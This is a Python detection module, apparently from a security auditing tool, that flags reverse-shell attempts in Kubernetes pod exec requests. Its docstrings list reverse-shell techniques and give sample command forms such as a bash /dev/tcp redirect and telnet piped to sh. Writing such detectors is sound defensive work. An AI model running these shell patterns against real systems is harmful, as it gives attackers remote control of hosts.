"""Kubernetes Pod Exec Reverse Shell (hardened): the Elastic rule's intent over ``ExecRequest``.

Each check reads normalised simple commands, so a command hidden behind other parameters, an
``&``/newline inside an argument, quoting, ``$IFS`` or brace expansion is seen as the shell sees
it. Families: ``/dev/tcp|udp`` (a shell bound to one fires wherever it points; any other use
fires unless it is an allow-listed host or an empty port probe), netcat ``-e``/``-c``, socat
``EXEC:``/``SYSTEM:``/``pty`` with a network address, a network client piped through a shell
(telnet, nc, ``openssl s_client``), a fifo relay, interpreter one-liners (python socket+connect
or ``pty.spawn``, perl ``use Socket``/``IO::Socket``, ruby ``TCPSocket``, php ``fsockopen``, node
``net.Socket`` + ``child_process``, lua, awk ``/inet/tcp``, PowerShell), and zsh ``ztcp``.

Deliberately quieter than the Elastic rule: ``mkfifo`` alone and ``0>&1`` alone do not fire (a
fifo or a dup without a network peer is not a shell over the network).
"""

from __future__ import annotations

from collections.abc import Callable

from auditstream.detections.exec.request import ExecRequest
from auditstream.detections.exec.shell_words import SimpleCommand
from auditstream.detections.rule_hit import Explanation

from .indicators import (
    NETCATS,
    allowed_host,
    code_text,
    dev_socket,
    hit,
    is_interpreter,
    is_shell,
    netcat_target,
    network_client,
    runs_stdin,
    short_flags,
    socat_network_host,
    socket_redirects,
)
from .interpreters import interpreter_socket

Check = Callable[[ExecRequest, SimpleCommand], Explanation | None]
_PROBE_ARGV = frozenset({(), (":",), ("true",), ("cat",), ("exit",)})
_NC_EXEC_LONG = ("--exec", "--sh-exec", "--lua-exec")


def _shell_to_socket(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    """``bash -i >& /dev/tcp/h/p 0>&1`` and kin: a shell whose stdio is a socket."""
    sockets = socket_redirects(cmd)
    if sockets and is_shell(cmd):
        return hit("shell_stdio_to_socket", cmd, req, ":".join(sockets[0]))
    return None


def _dev_tcp(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    """Any other ``/dev/tcp`` or ``/dev/udp`` use, minus allow-listed hosts and empty probes."""
    found = socket_redirects(cmd)
    if is_interpreter(cmd):
        text = code_text(cmd)
        found += [s for s in (dev_socket(part) for part in text.split()) if s is not None]
    probe = _is_probe(cmd)
    for host, port in found:
        if not allowed_host(host) and not probe:
            return hit("dev_tcp_connect", cmd, req, f"{host}:{port}")
    return None


def _is_probe(cmd: SimpleCommand) -> bool:
    """An open-and-close port probe: ``: > /dev/tcp/h/p``, ``echo up > ...``, ``cat < ...``.

    Nothing but literal text goes out (an argument with ``$`` or a backtick could carry data)
    and no descriptor is duplicated, so no shell or file can be wired to the socket."""
    if not all(r.op in ("<", ">") for r in cmd.redirects):
        return False
    if cmd.argv in _PROBE_ARGV:
        return True
    literal = not any("$" in a or "`" in a for a in cmd.argv[1:])
    return cmd.name in ("echo", "printf") and literal


def _netcat_exec(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    """nc/ncat/netcat (busybox included) that executes a program for the peer."""
    if cmd.name not in NETCATS:
        return None
    long_exec = any(a.startswith(_NC_EXEC_LONG) for a in cmd.argv[1:])
    if long_exec or short_flags(cmd) & {"e", "c"}:
        return hit("netcat_exec", cmd, req, netcat_target(cmd) or "listener")
    return None


def _socat_exec(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    """socat joining ``EXEC:``/``SYSTEM:`` or a pty to a network address (any case)."""
    if cmd.name != "socat":
        return None
    addresses = [a for a in cmd.argv[1:] if not a.startswith("-") or a == "-"]
    lowered = [a.lower() for a in addresses]
    runs = any(a.startswith(("exec:", "system:")) or ",pty" in a or a == "pty" for a in lowered)
    hosts = [h for h in (socat_network_host(a) for a in addresses) if h is not None]
    if runs and hosts:
        return hit("socat_exec", cmd, req, hosts[0] or "listener")
    return None


def _interpreter(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    found = interpreter_socket(cmd) if is_interpreter(cmd) else None
    return hit(found[0], cmd, req, found[1]) if found else None


def _ztcp(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
    """zsh ``ztcp HOST PORT`` (module ``zsh/net/tcp``) to a remote host, or ``ztcp -l``."""
    if cmd.name != "ztcp":
        return None
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    if "-l" in cmd.argv or not args or not allowed_host(args[0]):
        return hit("zsh_ztcp", cmd, req, args[0] if args else "listener")
    return None


COMMAND_CHECKS: tuple[Check, ...] = (
    _shell_to_socket,
    _netcat_exec,
    _socat_exec,
    _interpreter,
    _ztcp,
    _dev_tcp,
)


def _fifo_relay(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> Explanation | None:
    """``mkfifo``/``mknod p`` in the same exec as a network client: the classic fifo relay."""
    fifo = any(c.name == "mkfifo" or (c.name == "mknod" and "p" in c.argv[2:]) for c in cmds)
    if not fifo:
        return None
    for cmd in cmds:
        target = network_client(cmd)
        if target is not None:
            return hit("fifo_shell_relay", cmd, req, target or "listener")
    return None


def _pipe_to_shell(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> Explanation | None:
    """A network client and a stdin-reading shell in one pipeline (``telnet h p | sh | ...``)."""
    shells = {c.pipeline for c in cmds if is_shell(c) and runs_stdin(c)}
    for cmd in cmds:
        if cmd.pipeline not in shells:
            continue
        target = network_client(cmd)
        if target is not None and not is_shell(cmd):
            return hit("socket_piped_to_shell", cmd, req, target or "listener")
    return None


def reverse_shell_hardened(
    request: ExecRequest, commands: tuple[SimpleCommand, ...]
) -> Explanation | None:
    """The registered predicate: the first indicator found, in command order."""
    for cmd in commands:
        for check in COMMAND_CHECKS:
            found = check(request, cmd)
            if found is not None:
                return found
    return _fifo_relay(request, commands) or _pipe_to_shell(request, commands)
